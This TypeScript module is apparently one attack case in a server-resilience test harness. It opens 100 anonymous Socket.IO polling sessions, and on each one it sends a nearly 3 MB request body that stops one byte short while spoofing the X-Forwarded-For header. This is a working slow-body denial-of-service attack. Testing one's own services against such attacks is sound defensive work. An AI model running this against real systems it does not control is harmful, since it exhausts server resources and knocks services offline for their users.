import { attacker, hold, Raw, times } from "../raw.ts";
import type { Attack } from "../trial.ts";

const sessions = 100;
const size = 3 * 1024 * 1024 - 1024;
const body = new Uint8Array(size - 1).fill(0x20);

/** Anonymous Socket.IO sessions that send nearly the largest message that there may be, and not its end. */
export const attack: Attack = async (target, signal) => {
  let taken = 0;
  const send = async () => {
    const opened = await fetch(`${target.url}/socket.io/?EIO=4&transport=polling`, {
      headers: { "x-forwarded-for": attacker },
    });
    const sid = /"sid":"([^"]+)"/.exec(await opened.text())?.[1];
    const raw = await Raw.connect(target);
    if (sid === undefined) return raw;
    const head =
      `POST /socket.io/?EIO=4&transport=polling&sid=${sid} HTTP/1.1\r\nHost: ${target.hostname}\r\n` +
      `X-Forwarded-For: ${attacker}\r\nContent-Length: ${size}\r\n\r\n`;
    if (await raw.write(head) && await raw.write(body)) taken += 1;
    return raw;
  };
  const sending = times(sessions, send);
  await Promise.race([sending, hold(10_000, signal)]);
  sending.then((raws) => raws.forEach((raw) => raw[Symbol.dispose]()));
  return {
    said: `${sessions} sessions, ${taken} bodies of 3 MB taken in all but for the last byte`,
    faults: [],
  };
};
